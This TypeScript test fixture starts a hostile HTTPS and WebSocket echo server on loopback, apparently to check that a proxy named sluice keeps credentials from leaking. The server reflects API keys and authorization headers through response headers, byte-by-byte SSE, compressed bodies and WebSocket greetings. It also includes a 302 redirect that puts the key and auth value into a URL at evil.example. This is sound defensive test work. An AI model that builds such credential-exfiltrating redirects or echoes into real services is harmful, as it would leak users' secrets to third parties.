/**
 * A hostile but ordinary upstream (HTTPS + WebSocket, test CA) that hands back whatever it was given, the
 * way APIs echo headers or prompts in errors and models repeat their input:
 * - any path: request headers echoed as `x-echo-<name>` response headers, and `{path, query, headers, body}`
 *   as the JSON body;
 * - `/redir?key=K`: 302 to `https://evil.example/landing?key=<K>&auth=<x-api-key or authorization it got>`;
 * - `/sse`: the echo as SSE events, written ONE BYTE per write (each on its own tick);
 * - `/gzip`, `/deflate`, `/deflate-raw`, `/br`: the echo compressed (whatever the client accepts); `/gzip-stream` streams it
 *   compressed in flushed pieces; `/zstd`: the echo in clear but labelled `content-encoding: zstd`;
 * - `/big[?coding=gzip]`: 24 MiB of noise written with backpressure (`bigWritten` counts it);
 * - `POST /oauth/token` with a refresh grant: new tokens as gzip JSON (`?coding=deflate|br`, `?shape=nested|
 *   formjson` for answers sluice must refuse); every token it issues is listed in `issued`;
 * - WebSocket (any path): text and binary frames echoed as they are; on open it sends the `authorization`
 *   header it got and every string in `wsGreeting`, as a text AND a binary frame each.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import https from 'node:https';
import type http from 'node:http';
import path from 'node:path';
import zlib from 'node:zlib';
import { WebSocketServer } from 'ws';
import { listenOnLoopback, type LoopbackServer } from './loopback-server.js';
import { REPO_ROOT } from './repo-root.js';

const TLS_DIR = path.join(REPO_ROOT, 'test', 'fixtures', 'tls');

/** A running echo upstream. */
export interface EchoUpstream extends LoopbackServer {
  /** Every request: method, path, headers and body as received. */
  seen: { method: string; path: string; headers: http.IncomingHttpHeaders; body: string }[];
  /** Text of every WebSocket message received. */
  wsSeen: string[];
  /** Extra strings sent to each new WebSocket client (text and binary). */
  wsGreeting: string[];
  /** Every token the token endpoint issued. */
  issued: string[];
  /** The refresh token the token endpoint issued last (the initial one before any refresh). */
  refreshToken: string;
  /** Raw bytes `/big` has handed on so far (before compression). */
  bigWritten: number;
  /** The refresh token each refresh grant carried, in order. */
  refreshGrants: string[];
}

/** Size of the `/big` body. */
export const BIG_BYTES = 24 * 1024 * 1024;
/** 64 KiB of noise: gzip cannot shrink it (its window is 32 KiB), so compressed size ≈ raw size. */
const NOISE = crypto.randomBytes(64 * 1024);

const tick = (): Promise<void> => new Promise((r) => setImmediate(r));

/** Starts the echo upstream on 127.0.0.1. `refreshToken` is the refresh token its token endpoint accepts first. */
export async function startEchoUpstream(refreshToken: string): Promise<EchoUpstream> {
  const state = {
    seen: [] as EchoUpstream['seen'],
    wsSeen: [] as string[],
    wsGreeting: [] as string[],
    issued: [] as string[],
    refreshToken,
    refreshGrants: [] as string[],
    bigWritten: 0,
  };
  const server = https.createServer(
    { key: fs.readFileSync(path.join(TLS_DIR, 'upstream-key.pem')), cert: fs.readFileSync(path.join(TLS_DIR, 'upstream-cert.pem')) },
    (req, res) => {
      const parts: Buffer[] = [];
      req.on('data', (c: Buffer) => parts.push(c));
      req.on('end', () => void answer(req, res, Buffer.concat(parts).toString('utf8')).catch(() => res.destroy()));
    },
  );
  async function answer(req: http.IncomingMessage, res: http.ServerResponse, body: string): Promise<void> {
    const url = new URL(req.url ?? '/', 'https://upstream.test');
    state.seen.push({ method: req.method ?? '', path: req.url ?? '', headers: req.headers, body });
    if (url.pathname === '/oauth/token') return token(url, res, body);
    const echoHeaders: Record<string, string> = {};
    for (const [k, v] of Object.entries(req.headers)) if (typeof v === 'string') echoHeaders[`x-echo-${k}`] = v;
    const echo = JSON.stringify({ path: url.pathname, query: Object.fromEntries(url.searchParams), headers: req.headers, body });
    const got = String(req.headers['x-api-key'] ?? req.headers.authorization ?? '');
    switch (url.pathname) {
      case '/named-header':
        // The key as a header *name* (Node lower-cases it on the way to sluice).
        res.writeHead(200, { [`x-k-${got}`]: '1', 'content-type': 'text/plain', 'content-length': 2 });
        return void res.end('ok');
      case '/redir':
        res.writeHead(302, {
          ...echoHeaders,
          location: `https://evil.example/landing?key=${url.searchParams.get('key') ?? ''}&auth=${encodeURIComponent(got)}`,
          'content-length': 0,
        });
        return void res.end();
      case '/sse': {
        res.writeHead(200, { ...echoHeaders, 'content-type': 'text/event-stream' });
        const text = `event: echo\ndata: ${echo}\n\ndata: ${got}\n\n`;
        for (const b of Buffer.from(text)) {
          res.write(Buffer.from([b]));
          await tick();
        }
        return void res.end();
      }
      case '/gzip':
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-encoding': 'gzip' });
        return void res.end(zlib.gzipSync(echo));
      case '/deflate':
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-encoding': 'deflate' });
        return void res.end(zlib.deflateSync(echo));
      case '/deflate-raw':
        // Raw deflate (no zlib wrapper), as some servers send for `deflate`.
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-encoding': 'deflate' });
        return void res.end(zlib.deflateRawSync(echo));
      case '/br':
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-encoding': 'br' });
        return void res.end(zlib.brotliCompressSync(Buffer.from(echo)));
      case '/gzip-stream': {
        res.writeHead(200, { ...echoHeaders, 'content-type': 'text/event-stream', 'content-encoding': 'gzip' });
        const gz = zlib.createGzip();
        gz.pipe(res);
        for (const piece of [`data: ${got.slice(0, 7)}`, `${got.slice(7)}\n\n`, `data: ${echo}\n\n`]) {
          gz.write(piece);
          await new Promise<void>((r) => gz.flush(() => r()));
        }
        return void gz.end();
      }
      case '/big': {
        // BIG_BYTES of incompressible data (gzip when ?coding=gzip), written only as fast as the reader takes it.
        const gzip = url.searchParams.get('coding') === 'gzip';
        res.writeHead(200, {
          ...echoHeaders,
          'content-type': 'application/octet-stream',
          ...(gzip ? { 'content-encoding': 'gzip' } : { 'content-length': BIG_BYTES }),
        });
        const sink = gzip ? zlib.createGzip() : res;
        if (gzip) (sink as zlib.Gzip).pipe(res);
        state.bigWritten = 0;
        while (state.bigWritten < BIG_BYTES) {
          state.bigWritten += NOISE.length;
          if (!sink.write(NOISE)) await new Promise<void>((r) => sink.once('drain', () => r()));
        }
        return void sink.end();
      }
      case '/zstd':
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-encoding': 'zstd' });
        return void res.end(echo);
      default:
        res.writeHead(200, { ...echoHeaders, 'content-type': 'application/json', 'content-length': Buffer.byteLength(echo) });
        return void res.end(echo);
    }
  }
  function token(url: URL, res: http.ServerResponse, body: string): void {
    let fields: Record<string, string> = {};
    try {
      fields = body.trimStart().startsWith('{') ? (JSON.parse(body) as Record<string, string>) : Object.fromEntries(new URLSearchParams(body));
    } catch {
      fields = {};
    }
    // Any refresh token it ever issued is accepted (so a test that makes sluice drop one does not break the next).
    if (fields.grant_type !== 'refresh_token' || !(fields.refresh_token === refreshToken || state.issued.includes(fields.refresh_token ?? ''))) {
      res.writeHead(400, { 'content-type': 'application/json' });
      return void res.end(JSON.stringify({ error: 'invalid_grant' }));
    }
    state.refreshGrants.push(fields.refresh_token!);
    const n = crypto.randomBytes(12).toString('hex');
    const t = {
      access_token: `at-new-${n}-access-token-value`,
      refresh_token: `rt-new-${n}-refresh-token-value`,
      id_token: `eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.idsig-new-${n}-signature`,
    };
    state.issued.push(t.access_token, t.refresh_token, t.id_token);
    state.refreshToken = t.refresh_token;
    const shape = url.searchParams.get('shape');
    let text: string;
    const type = 'application/json';
    if (shape === 'nested') text = JSON.stringify({ data: { access_token: t.access_token, refresh_token: t.refresh_token } });
    else if (shape === 'formjson') text = new URLSearchParams({ ...t, expires_in: '3600', token_type: 'Bearer' }).toString();
    else text = JSON.stringify({ ...t, expires_in: 3600, token_type: 'Bearer' });
    const coding = url.searchParams.get('coding') ?? 'gzip';
    const encoded =
      coding === 'deflate'
        ? zlib.deflateSync(text)
        : coding === 'br'
          ? zlib.brotliCompressSync(Buffer.from(text))
          : coding === 'zstd'
            ? Buffer.from(text)
            : zlib.gzipSync(text);
    res.writeHead(200, { 'content-type': type, 'content-encoding': coding, 'content-length': encoded.length });
    res.end(encoded);
  }
  const wss = new WebSocketServer({ server, perMessageDeflate: false });
  wss.on('connection', (ws, req) => {
    const greet = [String(req.headers.authorization ?? ''), ...state.wsGreeting].filter(Boolean);
    for (const g of greet) {
      ws.send(`hello ${g}`, { binary: false });
      ws.send(Buffer.from(`bin ${g}`), { binary: true });
    }
    ws.on('message', (data, isBinary) => {
      if (!isBinary) state.wsSeen.push(data.toString());
      ws.send(data, { binary: isBinary });
    });
    ws.on('error', () => {});
  });
  const listening = await listenOnLoopback(server, () => {
    for (const c of wss.clients) c.terminate();
    wss.close();
  });
  return Object.assign(state, listening) as unknown as EchoUpstream;
}
